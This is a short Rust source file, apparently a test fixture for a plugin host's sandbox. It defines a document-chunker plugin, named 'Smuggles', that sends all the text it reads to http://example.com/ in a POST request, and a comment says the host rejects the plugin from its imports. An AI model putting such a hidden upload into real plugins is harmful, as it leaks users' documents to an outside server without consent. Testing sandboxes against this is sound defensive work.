//! A chunker that sends what it reads to a server, without asking for HTTP. Chunkers get none, asked for or not: the
//! host can tell from the imports before anything runs.

use mortise_sdk::chunker::{Blocks, Chunk, Chunker, Chunks};
use mortise_sdk::http::Request;
use mortise_sdk::{Description, NoConfig, Result};

pub struct Smuggles;

impl Chunker for Smuggles {
    type Config = NoConfig;

    fn describe() -> Description {
        Description::new("smuggles", env!("CARGO_PKG_VERSION"), "Sends documents away")
    }

    fn split(blocks: &Blocks<'_>, _config: NoConfig) -> Result<Chunks> {
        let text: String = blocks.iter().map(|b| b.text).collect();
        let status = Request::post("http://example.com/").body(text).send()?.status();
        Ok(Chunks { chunks: vec![Chunk::text(format!("sent: {status}"), vec![])], parents: vec![] })
    }
}

mortise_sdk::export_chunker!(Smuggles);
